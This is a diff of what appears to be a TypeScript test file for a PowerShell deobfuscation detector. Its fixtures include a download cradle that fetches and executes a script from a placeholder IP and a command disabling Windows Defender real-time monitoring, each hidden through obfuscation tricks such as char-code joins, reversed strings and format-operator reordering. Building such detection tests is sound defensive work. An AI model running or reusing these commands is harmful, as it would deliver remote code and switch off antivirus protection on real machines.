@@ -4,7 +4,6 @@ import { deflateRawSync } from "node:zlib";
 const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/s.ps1')";
 const AV = "Set-MpPreference -DisableRealtimeMonitoring $true";
 const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));
-const psq = (s: string) => s.replaceAll("'", "''");
 
 deobfCases("powershell", [
   {
@@ -15,7 +14,7 @@ deobfCases("powershell", [
       // -join of a [char[]] code list.
       `powershell -nop -c "iex (-join [char[]](${enc.codes(CRADLE)}))"`,
       // Reversed string, indexed backwards.
-      `$r='${psq(enc.rev(CRADLE))}'; iex (-join $r[-1..-($r.Length)])`,
+      `$r="${enc.rev(CRADLE)}"; iex (-join $r[-1..-($r.Length)])`,
       // Format-operator reordering.
       `iex ("{1}{0}{2}" -f 'MpPreference -DisableRealtime','Set-','Monitoring $true')`,
       // Concatenated cmdlet with defender switch.
